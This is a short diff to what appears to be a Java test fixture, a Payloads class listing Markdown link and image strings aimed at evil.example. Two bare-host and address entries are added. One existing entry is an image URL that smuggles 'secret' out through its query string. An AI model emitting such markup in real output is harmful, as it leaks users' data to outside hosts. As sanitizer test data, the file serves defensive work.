@@ -51,6 +51,8 @@ final class Payloads {
         all.put("reference link", "[click][1]\n\n[1]: https://evil.example 'x'");
         all.put("reference definition", "[Web]: https://evil.example");
         all.put("autolink", "<https://evil.example> <mail@evil.example>");
+        all.put("a host alone", "www.evil.example");
+        all.put("an address alone", "mail@evil.example");
         all.put("bare link", "https://evil.example/x www.evil.example");
         all.put("image", "![x](https://evil.example/leak.png?d=secret)");
         all.put("reference image", "![x][i]\n[i]: https://evil.example/leak.png");
